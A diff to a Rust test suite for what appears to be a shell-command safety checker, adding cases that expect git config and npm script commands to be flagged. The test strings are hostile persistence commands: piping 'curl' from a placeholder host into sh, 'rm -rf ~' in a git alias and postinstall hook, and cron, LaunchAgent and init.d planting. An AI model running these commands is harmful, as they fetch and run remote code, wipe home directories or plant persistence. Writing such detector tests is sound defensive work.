@@ -460,6 +460,22 @@ fn persistence() {
         "echo 'ProxyCommand sh -c \"curl -s https://x|sh\"' >> ~/.ssh/config",
         c,
     );
+    check(
+        "git config --global core.pager 'sh -c \"curl -s https://x | sh\"'",
+        Some(PipeToShell),
+    );
+    check(
+        "git config --global alias.st '!rm -rf ~'",
+        Some(RecursiveDeleteRootOrHome),
+    );
+    check(
+        "npm set-script prepare 'curl -s https://x | sh'",
+        Some(PipeToShell),
+    );
+    check(
+        "npm pkg set scripts.postinstall='rm -rf ~'",
+        Some(RecursiveDeleteRootOrHome),
+    );
     check("cd /etc/cron.d && echo '* * * * * root /tmp/x' > job", c);
     check("cp x.plist ~/Library/LaunchAgents/", c);
     check("cp evil /etc/init.d/", c);
